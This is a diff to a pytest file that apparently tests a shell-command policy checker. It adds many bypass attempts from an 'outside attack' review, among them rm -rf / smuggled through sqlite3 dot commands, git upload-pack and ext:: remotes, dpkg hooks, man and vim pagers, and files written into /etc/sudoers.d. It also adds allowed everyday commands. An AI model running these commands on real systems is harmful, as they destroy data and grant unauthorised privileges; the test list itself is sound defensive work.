@@ -650,6 +650,50 @@ DENIED_BYPASSES = [
     "rsync --rsync-path='rm -rf /' a x:b",
     "gdb --cd=/etc -batch -ex 'shell rm sudoers'",
     "gdb -cd /etc -batch -ex '!rm sudoers'",
+    # outside attack G, finding 2: a command language fed on the line (a here-string or -document)
+    "sqlite3 :memory: <<< '.shell touch /etc/sudoers.d/x'",
+    "gdb -q -nx <<'E'\nshell touch /etc/sudoers.d/x\nE",
+    "python3 <<< 'import os'", "perl <<< 'system 1'", "awk -f /dev/stdin /dev/null <<< 'BEGIN{}'",
+    # finding 3: sqlite3's dot commands by any start of their name, and their pipes
+    "sqlite3 :memory: '.sh touch /etc/sudoers.d/x'", "sqlite3 :memory: '.she rm -rf /'",
+    "sqlite3 :memory: '.sys rm -rf /'", "sqlite3 :memory: \".o '|rm -rf /'\" 'select 1'",
+    "sqlite3 :memory: \".on '|rm -rf /'\" 'select 1'", "sqlite3 :memory: \".read '|rm -rf /'\"",
+    "sqlite3 :memory: \".import '|rm -rf /' t\"", "sqlite3 -cmd '.sy rm -rf /' :memory: .q",
+    "sqlite3 --cmd '.sh rm -rf /' :memory: .q", "sqlite3 :memory: '.o /etc/sudoers.d/x'",
+    "sqlite3 :memory: '.tr /etc/sudoers.d/x'", "sqlite3 :memory: '.clone /etc/sudoers.d/x'",
+    "sqlite3 :memory: '.open /etc/sudoers.d/x'", "sqlite3 db \"select 1;\n.sh rm -rf /\"",
+    # finding 4: git's own code options, ext:: remotes, --config-env in its space form
+    "git -c protocol.ext.allow=always ls-remote 'ext::rm -rf /'",
+    "git ls-remote --upload-pack='rm -rf / #' /tmp/repo", "git ls-remote --upload-p='rm -rf /' r",
+    "git clone -u 'rm -rf / #' /tmp/repo d", "git fetch --upload-pack 'rm -rf / #' origin",
+    "git pull --upload-pack='rm -rf /' origin", "git push --receive-pack='rm -rf /' origin",
+    "git archive --remote /tmp/r --exec='rm -rf / #' HEAD",
+    "git -c remote.o.url='ext::rm -rf /' fetch o", "git config remote.o.url 'ext::rm -rf /'",
+    "git grep --open-files-in-pager='rm -rf /' x", "git grep -O'rm -rf /' x",
+    "git rebase -x 'rm -rf /' HEAD~1", "git rebase --exec='rm -rf /' HEAD~1",
+    "git bisect run rm -rf /", "git submodule foreach 'rm -rf /'",
+    "git difftool -x 'rm -rf /' HEAD", "git difftool --extcmd='rm -rf /' HEAD",
+    "git filter-branch --tree-filter 'rm -rf /' HEAD", "git clone -c core.sshCommand='rm -rf /' x:y",
+    "GIT_SSH_COMMAND='rm -rf /' git ls-remote x:y", "GIT_EXTERNAL_DIFF='rm -rf /' git diff",
+    # finding 5: writers (GNU abbreviations, option forms, programs that make files)
+    "sort --out /etc/sudoers.d/x /tmp/rule", "sort --outp=/etc/sudoers.d/x /tmp/rule",
+    "sed --in-pl 's/^# *%sudo/%sudo/' /etc/sudoers", "sed -n 's/a/b/' -i /etc/sudoers",
+    "curl -s --output-dir /etc/sudoers.d -o x http://h/rule",
+    "curl -s --output-dir /etc/sudoers.d -O http://h/rule", "split /tmp/rule -- /etc/sudoers.d/z",
+    "script -q -c true -O /etc/sudoers.d/x", "script -q --log-o /etc/sudoers.d/x -c true",
+    "script -T /etc/sudoers.d/x -c true", "script -I /etc/sudoers.d/x -c true",
+    "git archive -o /etc/sudoers.d/x HEAD", "git bundle create /etc/sudoers.d/x HEAD",
+    "git worktree add /etc/sudoers.d/w", "git init /etc/sudoers.d/r",
+    "wget --output-doc=/etc/sudoers.d/x http://h/rule", "wget --output-d /etc/sudoers.d/x http://h/r",
+    "mkdir /etc/sudoers.d/d", "mkdir -m 700 -p /etc/sudoers.d/d", "mkfifo /etc/sudoers.d/f",
+    "mknod /etc/sudoers.d/n p", "install -d /etc/sudoers.d/d", "flock /etc/sudoers.d/l true",
+    "fallocate -l 1 /etc/sudoers.d/f",
+    # finding 6: code in common programs' options
+    "dpkg --pre-invoke='rm -rf /' -i x.deb", "dpkg --post-invoke 'rm -rf /' -i x.deb",
+    "apt-get -oDpkg::Options::=--pre-invoke='rm -rf /' install x",
+    "man -P 'rm -rf /' ls", "man --pager='rm -rf /' ls", "man -P'rm -rf /' ls",
+    "vim -es -c '!rm -rf /' -c q", "vim '+!rm -rf /' f",
+    "zip -q z.zip f -T -TT 'rm -rf /'", "zip -q z.zip f -T --unzip-command 'rm -rf /'",
 ]
 
 
@@ -981,6 +1025,37 @@ UNKNOWN_LINES = [
     ("gdb -p 1 -batch -ex 'call system(\"id\")'", "a gdb command that may run code"),
     ("gdb -batch -x cmds.gdb ./a.out", "gdb commands read from a file"),
     ("git -c core.hooksPath=/tmp/h commit", "git hooks from a folder"),
+    # outside attack G: a command language fed on the line, read from a descriptor or a file
+    # known only at run time, or given on the line where the policy does not read it
+    ("echo '.shell reboot' | sqlite3", "text piped into sqlite3"),
+    ("echo '!reboot' | ed -s /dev/null", "text piped into ed"),
+    ("cat cmds | gdb -q -nx", "text piped into gdb"),
+    ("ed -s /dev/null <<< '!reboot'", "ed commands, which may run shell commands"),
+    ("psql <<'E'\n\\! reboot\nE", "psql commands, which may run shell commands"),
+    ("mysql <<< 'system reboot'", "mysql commands, which may run shell commands"),
+    ("psql -c '\\! reboot'", "psql commands"), ("mysql -e 'system reboot'", "mysql commands"),
+    ("psql -Atc '\\! reboot'", "psql commands"), ("psql -c'\\! reboot'", "psql commands"),
+    ("mysql -uroot -e 'system reboot'", "mysql commands"),
+    ("sqlite3 -init /dev/stdin db 'select 1'", "shell code known only at run time"),
+    ("sqlite3 db '.read /dev/stdin'", "shell code known only at run time"),
+    ("sqlite3 -init <(echo .shell reboot) db", "shell code known only at run time"),
+    ("sqlite3 db '.load /tmp/x.so'", "shell code known only at run time"),
+    ("sqlite3 -A -x -f a.sqlar", "shell code known only at run time"),
+    ("CMD=reboot git --config-env core.sshCommand=CMD ls-remote x:y", "from an environment"),
+    ("git -c url.ext::reboot.insteadOf=x ls-remote x", "an ext:: remote"),
+    ("git ls-remote 'ext::reboot%x'", "% escapes"),
+    ("GIT_CONFIG_PARAMETERS=\"'core.sshcommand'='reboot'\" git ls-remote x:y", "gives git settings"),
+    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=reboot git log",
+     "gives git settings"),
+    ("LESSOPEN='|reboot %s' less f", "a command less runs"),
+    ("git clone --template=/tmp/t x d", "git hooks from a template folder"),
+    ("apt-get -o APT::Update::Pre-Invoke::=reboot update", "an apt setting that may run"),
+    ("apt-get -o 'DPkg::Post-Invoke::=reboot' install x", "an apt setting that may run"),
+    ("apt -o Acquire::http::ProxyAutoDetect=/tmp/x update", "an apt setting that may run"),
+    ("apt-get -c /tmp/apt.conf update", "apt settings the policy does not read"),
+    ("vim -c 'r !reboot' f", "an vim command given on the line"),
+    ("less '+!reboot' f", "a less command given on the line"),
+    ("dc -e '!reboot'", "dc commands"),
 ]
 
 
@@ -1296,6 +1371,21 @@ ALLOWED = [
     "ls -l /proc/1/fd",
     "echo x > /proc/self/fd/2",
     "cat /proc/sys/net/ipv4/ip_forward",
+    # outside attack G: everyday uses of the programs whose code and writes are now read
+    "sqlite3 db '.tables'", "sqlite3 -header -csv db 'select 1'", "sqlite3 db '.schema t'",
+    "sqlite3 db '.mode csv' '.import data.csv t'", "sqlite3 db '.headers on' 'select 1'",
+    "sqlite3 db < dump.sql", "sqlite3 db <<< 'select 1;'", "psql -c 'select 1'",
+    "psql <<'E'\nselect 1;\nE", "mysql -e 'show databases'", "gdb -batch -ex bt -p 1234",
+    "git log --oneline -5", "git fetch -u origin", "git commit -m 'ext:: parsing'",
+    "git clone https://github.com/x/y", "git rebase -i HEAD~3", "git pull --rebase",
+    "git grep -n TODO", "git init", "sort -o out.txt in.txt", "sort --output=out.txt in.txt",
+    "sort -S 1G big.txt", "mkdir -p build/out", "install -d -m 755 /srv/app",
+    "curl -fsSLO https://example.com/x.tar.gz", "curl -o x.tgz https://example.com/x.tgz",
+    "wget https://example.com/x.tar.gz", "sed -i 's/a/b/' app.conf", "flock /tmp/x.lock make",
+    "apt-get -o Dpkg::Options::=--force-confold -y install nginx",
+    "apt-get -o Acquire::Retries=3 update", "vim +10 app.py", "vim -c 'set paste' f",
+    "less +G /var/log/syslog", "less +/ERROR app.log", "man ls", "PAGER=cat git log",
+    "export EDITOR=vim", "GIT_PAGER=less git log",
 ]
 
 
@@ -2180,7 +2270,12 @@ WRITES = [
 
 # What a writer that names a file only by a pattern may write: held, not passed.
 PATTERN_WRITES = ["mktemp -p /etc/sudoers.d", "mktemp /etc/sudoers.d/XXXXXX",
-                  "mktemp --tmpdir=/etc/sudoers.d", "split -a 3 x /etc/sudoers.d/m"]
+                  "mktemp --tmpdir=/etc/sudoers.d", "split -a 3 x /etc/sudoers.d/m",
+                  # outside attack G, finding 5
+                  "wget -P /etc/sudoers.d http://h/rule", "TMPDIR=/etc/sudoers.d mktemp",
+                  "export TMPDIR=/etc/sudoers.d; mktemp -t x.XXXX",
+                  "git format-patch -o /etc/sudoers.d HEAD~1",
+                  "split --additional-suffix=.conf /tmp/rule /etc/sudoers.d/z"]
 
 
 @pytest.mark.parametrize("line", PATTERN_WRITES)
@@ -2374,6 +2469,19 @@ STDIN_PROGRAMS = [
     ("bash script.sh", None), ("bash -c 'ls'", None), ("bash -o emacs x.sh", None),
     ("fish -c ls", None), ("python3 x.py", None), ("python3 -c 'print(1)'", None),
     ("python3 -W ignore x.py", None), ("awk 1 f", None), ("echo hi", None), ("bash < x", None),
+    # outside attack G, finding 2: programs that read a command language (which can run shell
+    # commands or write files) from their stdin
+    ("sqlite3", "interpreter"), ("sqlite3 db", "interpreter"),
+    ("sqlite3 -cmd .headers db", "interpreter"), ("gdb -q -nx", "interpreter"),
+    ("gdb -p 1234", "interpreter"), ("ed -s /dev/null", "interpreter"), ("ex -s f", "interpreter"),
+    ("vim -es", "interpreter"), ("psql", "interpreter"), ("psql -f -", "interpreter"),
+    ("mysql db", "interpreter"), ("sftp -b - host", "interpreter"), ("dc", "interpreter"),
+    ("sudo -u postgres psql", "interpreter"), ("ftp host", "interpreter"),
+    ("sqlite3 db 'select 1'", None), ("gdb -batch -ex bt -p 1", None), ("psql -c 'select 1'", None),
+    ("mysql -e 'select 1'", None), ("sftp -b cmds host", None), ("sqlite3 db < dump.sql", None),
+    ("gdb --version", None), ("dc -e '2 3 + p'", None), ("cat x | sqlite3 db", None),
+    ("psql -Atc 'select 1'", None), ("psql -Ufoo", "interpreter"), ("psql --file=-", "interpreter"),
+    ("mysql -uroot -e 'select 1'", None), ("mysql -uroot db", "interpreter"),
     ("cat x | bash", None), ("ls", None), ("", None),
 ]
 
@@ -2401,6 +2509,9 @@ STDIN_READERS = [
     ("sudo -S ls", "sudo"), ("python3 -c 'input()'", "python3"), ("perl -ne 'print'", "perl"),
     ("zsh", "zsh"), ("fish", "fish"), ("bash -c 'read x'", "read"), ("cat < \"$f\"", "cat"),
     ("x=$(head -1)", "head"),
+    # attack G, finding 2: programs that read their commands from stdin
+    ("gdb -q -nx", "gdb"), ("ed -s f", "ed"), ("vim f", "vim"), ("ftp host", "ftp"),
+    ("sqlite3 -cmd .headers db", "sqlite3"),
     # attack E, finding 6: the descriptor `read -u` reads followed; stdin named as a file
     ("read -u 0 x", "read"), ("read -ru0 x", "read"), ("mapfile -u 0 -n 1 x", "mapfile"),
     ("read -u 3 x 3<&0", "read"), ("exec 3<&0; read -u 3 x", "read"), ("read -u 3 x", "read"),
